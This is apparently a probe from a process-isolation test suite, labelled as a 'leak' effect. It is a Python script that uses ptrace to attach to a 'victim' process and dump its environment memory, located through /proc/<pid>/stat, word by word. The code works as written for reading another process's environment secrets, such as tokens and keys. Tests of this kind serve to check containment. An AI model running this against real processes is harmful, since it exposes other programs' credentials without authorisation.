# effect: leak
# note: needs: process tracing; reads the environment of a traced process word by word
import ctypes
import platform

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long


def syscall(x86_64, aarch64, *args):
    number = {"x86_64": x86_64, "aarch64": aarch64}[platform.machine()]
    long = ctypes.c_long
    args = [long(a) if type(a) is int else a for a in args]
    return LIBC.syscall(long(number), *args)

def attempt(probe):
    import os

    long, pointer, pid = ctypes.c_long, ctypes.c_void_p, probe["victim"]
    LIBC.ptrace.restype = long
    fields = open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()
    start, end = int(fields[47]), int(fields[48])
    if LIBC.ptrace(long(16), long(pid), pointer(0), pointer(0)) < 0:
        return os.strerror(ctypes.get_errno())
    os.waitpid(pid, 0)
    found = b"".join(
        LIBC.ptrace(long(1), long(pid), pointer(place), pointer(0)).to_bytes(
            8, "little", signed=True
        )
        for place in range(start, end, 8)
    )
    LIBC.ptrace(long(17), long(pid), pointer(0), pointer(0))
    return found
